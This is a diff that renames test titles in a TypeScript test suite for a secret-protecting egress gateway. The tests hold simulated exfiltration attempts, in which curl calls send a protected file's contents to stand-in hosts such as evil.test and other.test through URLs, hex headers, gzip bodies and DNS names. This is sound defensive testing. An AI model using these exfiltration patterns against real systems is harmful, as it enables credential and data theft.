@@ -76,7 +76,7 @@ async function resolved(name: string): Promise<string> {
 }
 
 describe.each(['--http1.1', '--http2'])('an identity, over %s', (version) => {
-  test('is put into its slot, in the place of the placeholder, and of any other', async () => {
+  test('an identity replaces the placeholder, and any other value, in its slot', async () => {
     for (const sent of [PLACEHOLDER, 'sk-test-of-the-attacker']) {
       const headers = ['--header', `x-api-key: ${sent}`, '--header', 'authorization: Bearer attacker'];
       const { status, requests } = await curl(version, ...headers, to('allowed.test'));
@@ -87,7 +87,7 @@ describe.each(['--http1.1', '--http2'])('an identity, over %s', (version) => {
     }
   });
 
-  test('does not come back, though the host echoes what it gets', async () => {
+  test('an identity does not come back, though the upstream echoes it', async () => {
     const { status, body } = await curl(version, to('allowed.test', '/what-came'));
     expect(status).toBe(200);
     expect(body).toContain('x-api-key');
@@ -95,7 +95,7 @@ describe.each(['--http1.1', '--http2'])('an identity, over %s', (version) => {
     expect(body).toContain('*'.repeat(KEY.length));
   });
 
-  test('is nobody else’s: neither it nor its placeholder leaves anywhere else', async () => {
+  test('neither an identity nor its placeholder leaves to another host', async () => {
     const tries = [
       ['--header', `x-api-key: ${PLACEHOLDER}`, to('other.test')],
       ['--header', `x-note: ${PLACEHOLDER}`, to('allowed.test')],
@@ -112,7 +112,7 @@ describe.each(['--http1.1', '--http2'])('an identity, over %s', (version) => {
   });
 });
 
-describe('what a protected file holds', () => {
+describe('contents of a protected file', () => {
   const forms: Record<string, readonly string[]> = {
     'in the URL': [to('other.test', `/${FILED}`)],
     'in a header': ['--header', `x-a: ${Buffer.from(FILED).toString('hex')}`, to('other.test')],
@@ -121,13 +121,13 @@ describe('what a protected file holds', () => {
     'over plain HTTP': ['--data', FILED, 'http://other.test/'],
   };
 
-  test.each(Object.entries(forms))('does not leave %s', async (_, args) => {
+  test.each(Object.entries(forms))('a protected value does not leave %s', async (_, args) => {
     const { status, requests } = await curl('--http1.1', ...args);
     expect({ status, requests }).toEqual({ status: 403, requests: [] });
   });
 
   test.each(['--http1.1', '--http2'])(
-    'does not leave compressed, or late in a long body: %s',
+    'a protected value does not leave compressed, or late in a long body: %s',
     async (version) => {
       const zipped = join(world.folder, 'zipped');
       writeFileSync(zipped, gzipSync(`{"password":"${FILED}"}`));
@@ -148,7 +148,7 @@ describe('what a protected file holds', () => {
     },
   );
 
-  test('may leave where the rule only warns, and the log says so without saying what', async () => {
+  test('a protected value may leave where the rule only warns, and the log reports it without the value', async () => {
     const { status, requests } = await curl('--http2', '--data', FILED, to('x.wild.test'));
     expect(status).toBe(200);
     expect(requests).toHaveLength(1);
@@ -157,7 +157,7 @@ describe('what a protected file holds', () => {
   });
 });
 
-test('a name that tells a secret is asked nowhere', async () => {
+test('a name that contains a secret is not looked up', async () => {
   for (const host of [`${FILED}.wild.test`, `a.${FILED.slice(0, 15)}.${FILED.slice(15)}.wild.test`]) {
     const from = world.heard.length;
     expect((await gateway.curl('--proxy', `http://${GATEWAY}:3128`, to(host))).status).toBe(403);
@@ -176,7 +176,7 @@ test('a name that tells a secret is asked nowhere', async () => {
   expect(await world.heardSince(from, 'dns')).not.toEqual([]);
 });
 
-test('what looks like a secret to a rule, a pinned one or the user’s own, does not leave either', async () => {
+test("a match of a pinned rule or a user's rule does not leave either", async () => {
   const body = randomBytes(15).toString('hex');
   const token = `ghp_${body}${crc62Of(body)}`;
   for (const text of [token, 'ACME-12345678', Buffer.from(`key=${token}`).toString('base64')]) {
@@ -185,17 +185,17 @@ test('what looks like a secret to a rule, a pinned one or the user’s own, does
   }
 });
 
-describe('where a rule says it by what is found', () => {
+describe('a rule with an action per kind of finding', () => {
   const encoded = ['--header', 'Content-Encoding: gzip'];
 
-  test('what only looks like a secret leaves, and is in the log', async () => {
+  test('a text that only looks like a secret leaves, and is logged', async () => {
     const { status, requests } = await curl('--http2', '--data', 'ACME-12345678', to('y.wild.test'));
     expect([status, requests.length]).toEqual([200, 1]);
     const logged = gateway.decisions.find(({ rule }) => rule === 'by detector');
     expect(logged?.findings).toMatchObject([{ detector: 'pattern', id: 'acme', where: 'body' }]);
   });
 
-  test.each(['--http1.1', '--http2'])('what nobody can look into leaves as it came: %s', async (version) => {
+  test.each(['--http1.1', '--http2'])('data that cannot be decoded leaves unchanged: %s', async (version) => {
     const garbage = ['--data', 'no gzip at all'];
     const refused = await curl(version, ...encoded, ...garbage, to('other.test'));
     expect([refused.status, refused.requests]).toEqual([403, []]);
@@ -207,7 +207,7 @@ describe('where a rule says it by what is found', () => {
     ]);
   });
 
-  test('what is known to be secret does not, plain or compressed', async () => {
+  test('a known secret does not leave, plain or compressed', async () => {
     const plain = await curl('--http2', '--data', FILED, to('y.wild.test'));
     const zipped = join(world.folder, 'zipped-too');
     writeFileSync(zipped, gzipSync(`password: ${FILED}`));
@@ -229,7 +229,7 @@ test('long bodies without secrets arrive whole (control)', async () => {
   }
 });
 
-describe('a refusal for something else', () => {
+describe('a refusal for another reason', () => {
   const carriers: Record<string, readonly string[]> = {
     host: [`http://${FILED}.evil.test/`],
     path: [`http://evil.test/a/${FILED}`],
@@ -244,7 +244,7 @@ describe('a refusal for something else', () => {
     return since().flatMap(({ findings = [] }) => findings.map(({ where }) => where));
   };
 
-  test.each(Object.entries(carriers))('names what it found in the %s', async (where, args) => {
+  test.each(Object.entries(carriers))('a refusal also reports a secret in the %s', async (where, args) => {
     await sleep(A_WHILE_MS);
     const from = gateway.decisions.length;
     const { status, requests } = await curl('--http1.1', ...args);
@@ -252,7 +252,7 @@ describe('a refusal for something else', () => {
     expect(await placesFound(from)).toContain(where);
   });
 
-  test('names what a name that is asked for holds', async () => {
+  test('a refusal also reports a secret in a name that is looked up', async () => {
     await sleep(A_WHILE_MS);
     const from = gateway.decisions.length;
     expect(await resolved(`${FILED}.evil.test`)).toBe('ENOTFOUND');
@@ -260,7 +260,7 @@ describe('a refusal for something else', () => {
   });
 });
 
-test('the log holds neither the key nor what is in the file', () => {
+test("the log contains neither the key nor the file's contents", () => {
   const text = JSON.stringify(gateway.log).toLowerCase();
   expect(text).not.toContain(KEY.toLowerCase());
   expect(text).not.toContain(FILED);
